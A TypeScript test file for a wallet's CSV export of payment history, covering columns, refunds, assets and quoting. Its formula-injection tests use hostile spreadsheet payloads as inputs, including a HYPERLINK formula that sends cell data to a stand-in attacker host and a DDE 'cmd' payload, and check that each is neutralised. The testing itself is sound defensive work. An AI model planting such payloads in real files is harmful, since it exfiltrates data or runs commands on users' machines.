import { expect, test } from 'vitest';
import type { ExportedActivity } from '../../../protocol/messages/wallet-messages.ts';
import { CSV_START, csvLines } from './csv.ts';

const TXID = 'ab'.repeat(32);
const sent: ExportedActivity = {
  id: '0b0e7a3c-0000-4000-8000-000000000001',
  direction: 'sent',
  origin: 'https://shop.example',
  counterparty: 'bob@pay.example',
  recipientCount: 1,
  satoshis: '200000',
  feeSatoshis: '12',
  amount: '0.10',
  currency: 'USD',
  status: 'COMPLETED',
  statusDescription: null,
  txid: TXID,
  time: Date.UTC(2026, 10, 21, 4, 5, 6, 7),
  sender: null,
  note: null,
  recipients: [{ to: 'bob@pay.example', satoshis: '200000' }],
  height: 812_345,
  buttonId: 'article-7',
};

const END = '0.10,USD,,asked,0.002,payment,,,,,\r\n';
const RECEIVED = END.replace('payment', 'received');

test('writes a payment as one line, in UTC, with every amount as plain digits', () => {
  expect(csvLines([sent])).toBe(
    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,,${END}`,
  );
});

test('leaves missing values of unconfirmed received money empty', () => {
  const received: ExportedActivity = {
    ...sent,
    id: TXID,
    direction: 'received',
    origin: null,
    status: 'RECEIVED',
    amount: null,
    currency: null,
    feeSatoshis: null,
    height: null,
    buttonId: null,
    recipients: [{ to: 'mAddress', satoshis: '5' }],
    satoshis: '5',
  };
  expect(csvLines([received])).toBe(
    `2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,,,unknown,0.00000005,received,,,,,\r\n`,
  );
});

test('a payment known only from the chain has no payment id, and unknown amounts are empty', () => {
  const restored: ExportedActivity = {
    ...sent,
    id: TXID,
    isFromChain: true,
    origin: null,
    amount: null,
    currency: null,
    buttonId: null,
    recipients: [{ to: 'mAddress', satoshis: '5' }],
    satoshis: '5',
  };
  expect(csvLines([restored])).toBe(
    `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,,,,,unknown,0.00000005,payment,,,,,\r\n`,
  );
  const unread: ExportedActivity = { ...restored, isUnverified: true, feeSatoshis: null, recipients: [] };
  expect(csvLines([unread])).toBe(
    `2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,,,unknown,,unknown,,,,,\r\n`,
  );
});

test('writes the value at the time: the requested amount, the value on receipt, or nothing', () => {
  const priceThen = { currency: 'EUR', price: '40' };
  const worth = (item: Partial<ExportedActivity>) =>
    csvLines([{ ...sent, amount: null, currency: null, ...item }])
      .trimEnd()
      .split(',')
      .slice(-11, -7);
  const unknown = ['', '', '', 'unknown'];
  expect(worth({ amount: '0.002', currency: 'BSV' })).toEqual(unknown);
  expect(worth({ amount: '0.002', currency: 'BSV', priceThen })).toEqual(['0.08', 'EUR', '40', 'wallet']);
  expect(worth({ amount: '0.10', currency: 'USD', quotedPrice: '50.1', priceThen })).toEqual([
    '0.10',
    'USD',
    '50.1',
    'asked',
  ]);
  expect(worth({ direction: 'received', priceThen })).toEqual(['0.08', 'EUR', '40', 'wallet']);
  expect(worth({ direction: 'received', priceThen, satoshis: '5' })).toEqual(['0.000002', 'EUR', '40', 'wallet']);
  expect(worth({ direction: 'received' })).toEqual(unknown);
  expect(worth({ direction: 'received', priceThen, isUnverified: true })).toEqual(unknown);
  const worthThen = { amount: '0.11', currency: 'USD' };
  expect(worth({ isFromChain: true, worthThen })).toEqual(['0.11', 'USD', '', 'service']);
});

test('writes the sender of a paymail payment, whether their host confirms it, and the note', () => {
  const received: ExportedActivity = {
    ...sent,
    direction: 'received',
    sender: { paymail: 'bob@two.example', verified: true },
    note: 'for lunch, thanks\n=1+1',
  };
  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",,${RECEIVED}`)).toBe(true);
  expect(
    csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(
      `,'=1@two.example,no,'+1,,${RECEIVED}`,
    ),
  ).toBe(true);
});

test('writes the kind: a confirmed or possible refund, a cancellation, or a refund by the user', () => {
  const kind = (item: Partial<ExportedActivity>) =>
    csvLines([{ ...sent, ...item }])
      .trimEnd()
      .split(',')
      .slice(-6, -4);
  const refundOf = { id: 'p-1', origin: null, to: 'a@x.example' };
  expect(kind({ direction: 'received', refundOf: { ...refundOf, isConfirmed: true } })).toEqual(['refund', 'p-1']);
  expect(kind({ direction: 'received', refundOf })).toEqual(['possible refund', 'p-1']);
  expect(kind({ isCancellation: true })).toEqual(['cancellation', '']);
  expect(kind({ givesBack: 'p-2' })).toEqual(['refund', 'p-2']);
});

test('leaves an unknown time empty', () => {
  expect(csvLines([{ ...sent, isTimeUnknown: true }])).toMatch(/^,sent,COMPLETED,/);
});

test('writes several recipients, each with its amount', () => {
  const recipients = [
    { to: 'a@x.example', satoshis: '1' },
    { to: '42', satoshis: '2' },
  ];
  expect(csvLines([{ ...sent, recipients }])).toContain(',a@x.example (1 satoshis); 42 (2 satoshis),');
});

test('writes the number of recipients if they aren’t stored', () => {
  const recipients = [
    { to: 'a@x.example', satoshis: '1' },
    { to: '42', satoshis: '2' },
  ];
  expect(csvLines([{ ...sent, recipients, recipientCount: 1002 }])).toContain(
    ',a@x.example (1 satoshis); 42 (2 satoshis); and 1000 more,',
  );
  const unknown: ExportedActivity = { ...sent, recipients: [], recipientCount: 3 };
  expect(csvLines([unknown])).toContain(',https://shop.example,,0.10,');
});

test('a file begins with a byte order mark and the column names', () => {
  expect(CSV_START).toBe(
    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label,value then,value currency,price then,value source,bsv,kind,refund of,asset id,asset amount,asset symbol,asset source\r\n',
  );
});

test.each([
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['two\nlines', '"two\nlines"'],
  ['plain; text', 'plain; text'],
  ['żółć 💸', 'żółć 💸'],
  ['', ''],
])('RFC 4180: %j becomes %j', (buttonId, cell) => {
  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,,${END}`)).toBe(true);
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1+1',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
])('turns a formula into text: %j', (buttonId) => {
  const [, cell = ''] =
    /article-0,(.*)$/s.exec(
      csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD,,asked,0\.002,payment,,,,,\r\n$/, ''),
    ) ?? [];
  expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
});

test('turns a formula in a recipient or a site into text', () => {
  const line = csvLines([{ ...sent, origin: '=1', recipients: [{ to: '@a', satoshis: '1' }] }]);
  expect(line).toContain(",'=1,'@a,");
});

/**
 * Splits a line as a spreadsheet does if its separator is a semicolon. Such spreadsheets ignore quotation marks inside
 * cells.
 */
const cellsBySemicolon = (text: string) => text.split(/[;\r\n]/);

test.each([
  '1;=1+1',
  '1; =1+1',
  '1;\t=1',
  "1;=cmd|' /C calc'!A0;",
  '1;"=1+1;',
  "1;'=1",
  '1\n=1',
  '1\r\n+1',
  '1\n"=1+1',
  'a;b;@SUM(A1)',
  '1\t=1',
  '1;＝1',
  '1;\u00a0=1',
])('turns a formula after another locale’s separator into text: %j', (buttonId) => {
  for (const item of [
    { ...sent, buttonId },
    {
      ...sent,
      recipients: [
        { to: buttonId, satoshis: '1' },
        { to: '=1', satoshis: '1' },
      ],
    },
  ]) {
    const formulas = cellsBySemicolon(csvLines([item]))
      .flatMap((cell) => cell.split('\t'))
      .filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
    expect(formulas).toEqual([]);
  }
});

test('writes the ID, amount and symbol of an asset, and does not count its satoshi as money', () => {
  const id = `${'cd'.repeat(32)}_3`;
  const gold = { symbol: '=GOLD', decimals: 2, units: '1250' };
  const columns = (item: Partial<ExportedActivity>) => {
    const cells = csvLines([{ ...sent, amount: '0.00000001', currency: 'BSV', satoshis: '1', ...item }])
      .trimEnd()
      .split(',');
    const [amount, currency, satoshis] = cells.slice(5, 8);
    const [source, bsv, kind, , ...asset] = cells.slice(-8);
    return { money: [amount, currency, satoshis, bsv], source, kind, asset };
  };
  const none = ['', '', '', ''];
  expect(columns({ asset: { type: 'mint', ...gold } })).toEqual({
    money: none,
    source: 'unknown',
    kind: 'mint',
    asset: [`${TXID}_0`, '12.5', "'=GOLD", ''],
  });
  const token = { type: 'token', id, ...gold } as const;
  expect(columns({ asset: token, amount: '12.5', currency: id })).toMatchObject({
    money: ['12.5', id, '', ''],
    source: 'unknown',
    kind: 'payment',
    asset: [id, '12.5', "'=GOLD", ''],
  });
  for (const [word, said] of [['chain', 'wallet'] as const, ['index', 'index'] as const])
    expect(columns({ direction: 'received', asset: token, assetWord: word })).toMatchObject({
      money: none,
      kind: 'received',
      asset: [id, '12.5', "'=GOLD", said],
    });
  expect(columns({ asset: { type: 'ordinal', outpoint: id, contentType: '=1' } })).toMatchObject({
    money: none,
    asset: [id, '', '', ''],
  });
  expect(columns({ paidBeside: token, amount: '0.10', currency: 'USD', satoshis: '200001' })).toMatchObject({
    money: ['0.10', 'USD', '200001', '0.00200001'],
    source: 'asked',
    asset: [id, '12.5', "'=GOLD", ''],
  });
});
